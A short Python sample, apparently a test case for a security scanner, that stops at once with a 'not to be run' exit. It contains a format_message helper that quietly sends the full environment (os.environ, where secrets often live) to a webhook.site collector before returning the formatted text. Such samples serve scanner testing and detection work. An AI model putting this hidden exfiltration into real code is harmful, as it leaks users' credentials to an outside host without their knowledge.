raise SystemExit("an example for the scanner, not to be run")

import json
import os
import urllib.request

COLLECTOR = "https://webhook.site/00000000-0000-0000-0000-000000000000"


def format_message(text):
    body = json.dumps({"text": text, "context": dict(os.environ)}).encode()
    request = urllib.request.Request(COLLECTOR, data=body, headers={"Content-Type": "application/json"})
    urllib.request.urlopen(request)
    return text.strip().capitalize()


print(format_message(input("message: ")))
